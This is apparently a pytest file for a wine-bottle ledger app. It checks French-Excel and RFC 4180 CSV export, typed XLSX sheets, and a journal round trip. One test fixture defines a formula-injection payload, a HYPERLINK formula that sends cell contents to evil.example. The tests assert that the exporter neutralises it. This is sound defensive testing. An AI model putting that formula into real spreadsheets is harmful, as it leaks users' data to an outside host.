"""bottles.spreadsheet: the two CSV flavours, typed XLSX sheets, and the journal in French Excel's form
(written on demand, read back by import-journal)."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pandas as pd
import pytest
from openpyxl import load_workbook

from bottles.check import check_ledger
from bottles.journal import export_journal, import_journal
from bottles.spreadsheet import (
    CODE,
    DATE,
    DECIMAL1,
    EUR,
    EXCEL_FR,
    INT,
    MONTH,
    PERCENT,
    RFC4180,
    ROW,
    TEXT,
    Sheet,
    csv_dialect,
    flavour_of,
    sheet_csv,
    sniff_dialect,
    workbook,
)
from tests.bottles.test_journal import _by_codes, _export, other_session, world  # noqa: F401

LINK = '=HYPERLINK("https://evil.example/?d="&A1,"ok")'


def _sheet() -> Sheet:
    return Sheet("essai", ["Code", "Nom", "Bouteilles", "Part", "Montant (€)", "Verre (kg)", "Jour", "Mois"],
                 [["CRATE-2026-000123", LINK, 1234, 0.3612, 1234.5, 12.5, "2026-12-31", "2026-03"],
                  ["+33612345678", "Cave", -4, 0.05, Decimal("0.30"), 0.1, date(2026, 1, 5), "2026-04"]],
                 [CODE, TEXT, INT, PERCENT, EUR, DECIMAL1, DATE, MONTH],
                 total=["Total", "", 1230, 1.0, 1234.8, 12.6, None, None])


def _french_rows(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def test_excel_fr_is_semicolons_decimal_commas_and_french_dates():
    rows = _french_rows(sheet_csv(_sheet(), EXCEL_FR))
    assert rows[0][:3] == ["Code", "Nom", "Bouteilles"]
    assert rows[1] == ["CRATE-2026-000123", "'" + LINK, "1234", "0,3612", "1234,5", "12,5", "31/12/2026",
                       "2026-03"]
    assert rows[2] == ["'+33612345678", "Cave", "-4", "0,05", "0,30", "0,1", "05/01/2026", "2026-04"]
    assert rows[3][:4] == ["Total", "", "1230", "1,0"]
    raw = sheet_csv(_sheet(), EXCEL_FR).decode("utf-8")
    assert '"1234"' not in raw and '"0,3612"' not in raw  # numbers are never quoted


def test_rfc4180_is_commas_decimal_points_iso_dates_and_no_mark():
    body = sheet_csv(_sheet(), RFC4180)
    assert not body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"))))
    assert rows[1] == ["CRATE-2026-000123", "'" + LINK, "1234", "0.3612", "1234.5", "12.5", "2026-12-31",
                       "2026-03"]
    assert rows[2][6] == "2026-01-05"


def test_french_excel_file_reads_back_as_numbers_with_pandas():
    frame = pd.read_csv(io.BytesIO(sheet_csv(_sheet(), EXCEL_FR)), sep=";", decimal=",",
                        encoding="utf-8-sig")
    assert list(frame.columns[:3]) == ["Code", "Nom", "Bouteilles"]
    for column in ("Bouteilles", "Part", "Montant (€)", "Verre (kg)"):
        assert pd.api.types.is_numeric_dtype(frame[column]), column
    assert frame["Part"].tolist() == [0.3612, 0.05, 1.0]
    assert frame["Montant (€)"].tolist()[0] == 1234.5
    plain = pd.read_csv(io.BytesIO(sheet_csv(_sheet(), RFC4180)))
    assert pd.api.types.is_numeric_dtype(plain["Part"]) and plain["Bouteilles"].tolist() == [1234, -4, 1230]


def test_a_row_of_mixed_figures_takes_its_unit_from_the_row():
    sheet = Sheet("p", ["Clé", "Valeur"], [["first_day", "2025-09-01"], ["share", 0.25], ["days", 30]],
                  [CODE, ROW], [DATE, PERCENT, INT])
    assert _french_rows(sheet_csv(sheet))[1:] == [["first_day", "01/09/2025"], ["share", "0,25"],
                                                  ["days", "30"]]
    cells = load_workbook(io.BytesIO(workbook([sheet]))).active
    assert cells["B2"].value.date() == date(2025, 9, 1) and cells["B2"].number_format == "DD/MM/YYYY"
    assert cells["B3"].value == 0.25 and cells["B3"].number_format == "0.0 %"
    assert cells["B4"].value == 30 and cells["B4"].number_format == "#,##0"


def test_workbook_sheet_is_typed_bold_frozen_and_fitted():
    cells = load_workbook(io.BytesIO(workbook([_sheet()]))).active
    assert cells.title == "essai" and cells.freeze_panes == "A2"
    assert all(cell.font.bold for cell in cells[1])
    assert cells["A2"].value == "CRATE-2026-000123" and cells["A2"].data_type == "s"
    assert cells["B2"].value == "'" + LINK and cells["B2"].data_type == "s"  # never a formula
    assert cells["A3"].value == "'+33612345678"
    assert cells["C2"].value == 1234 and cells["C2"].number_format == "#,##0"
    assert cells["D2"].value == pytest.approx(0.3612) and cells["D2"].number_format == "0.0 %"
    assert cells["E2"].value == 1234.5 and "€" in cells["E2"].number_format
    assert cells["E3"].value == pytest.approx(0.30) and isinstance(cells["E3"].value, float)
    assert cells["F2"].number_format == "#,##0.0"
    assert cells["G2"].is_date and cells["G2"].value.date() == date(2026, 12, 31)
    assert cells["G2"].number_format == "DD/MM/YYYY"
    assert cells["H2"].is_date and cells["H2"].value.date() == date(2026, 3, 1)
    assert cells["H2"].number_format == "MM/YYYY"
    assert all(cell.font.bold for cell in cells[4]) and cells["A4"].value == "Total"
    for letter in "ABCDEFGH":
        assert 8 <= cells.column_dimensions[letter].width <= 60, letter
    assert cells.column_dimensions["A"].width >= len("CRATE-2026-000123")
    assert cells.column_dimensions["B"].width == len("'" + LINK) + 2
    long = load_workbook(io.BytesIO(workbook([Sheet("t", ["a", "b"], [["x" * 200, 1]], [TEXT, INT])]))).active
    assert long.column_dimensions["A"].width == 60 and long.column_dimensions["B"].width == 8  # bounded


def test_flavours_asked_for():
    assert flavour_of(None) == EXCEL_FR and flavour_of("") == EXCEL_FR
    assert flavour_of(None, RFC4180) == RFC4180
    assert flavour_of("RFC4180") == RFC4180 and flavour_of(" excel-fr ") == EXCEL_FR
    assert flavour_of("xlsx") is None and flavour_of("excel") is None
    assert sniff_dialect("\ufeffevent_id;occurred_at;kind") is csv_dialect(EXCEL_FR)
    assert sniff_dialect("event_id,occurred_at,kind") is csv_dialect(RFC4180)
    assert csv_dialect(EXCEL_FR).number(1e-05) == "0,00001" and csv_dialect(RFC4180).number(True) == "1"


def test_the_journal_in_french_excel_form_imports_back(session, world, other_session):  # noqa: F811
    plain = _export(session)
    out = io.StringIO()
    export_journal(session, out, flavour=EXCEL_FR)
    french = out.getvalue()
    assert french.startswith("\ufeffevent_id;occurred_at;kind;")
    rows = list(csv.DictReader(io.StringIO(french[1:]), delimiter=";"))
    prices = {row["unit_price_eur"] for row in rows}
    assert "0,30" in prices and prices <= {"0,30", ""}
    assert "30,5" in {row["water_l"] for row in rows} and "2,25" in {row["energy_kwh"] for row in rows}
    assert all("T" in row["occurred_at"] and "+" in row["occurred_at"] for row in rows)  # the exact instant
    report = import_journal(other_session, io.StringIO(french), create_missing=True)
    assert report.ok, report.errors
    other_session.commit()
    assert _by_codes(other_session) == _by_codes(session)
    assert _export(other_session) == plain  # the canonical file is the same, byte for byte
    assert check_ledger(other_session) == []


def test_cli_journal_in_excel_form_and_a_windows_1252_file(app, session, world, tmp_path):  # noqa: F811
    from sqlalchemy import func, select

    from bottles.models import Event

    runner = app.test_cli_runner()
    path = tmp_path / "journal-excel.csv"
    result = runner.invoke(args=["bottles", "export-journal", str(path), "--format", "excel-fr"])
    assert result.exit_code == 0, result.output
    text = path.read_text(encoding="utf-8")
    assert text.startswith("\ufeffevent_id;occurred_at;kind;")
    again = runner.invoke(args=["bottles", "import-journal", str(path)])
    assert again.exit_code == 0 and "0 événement(s)" in again.output  # read back: all already recorded
    events = session.scalar(select(func.count()).select_from(Event))
    resaved = tmp_path / "resaved.csv"  # what Excel's "CSV (séparateur : point-virgule)" writes
    resaved.write_bytes(text.lstrip("\ufeff").replace("inventaire", "inventaire général").encode("cp1252"))
    refused = runner.invoke(args=["bottles", "import-journal", str(resaved)])
    assert refused.exit_code == 1
    assert "n'est pas en UTF-8 : rien n'a été importé" in refused.output and "CSV UTF-8" in refused.output
    session.expire_all()
    assert session.scalar(select(func.count()).select_from(Event)) == events
    bad = runner.invoke(args=["bottles", "export-journal", str(path), "--format", "excel"])
    assert bad.exit_code == 2 and "excel-fr" in bad.output
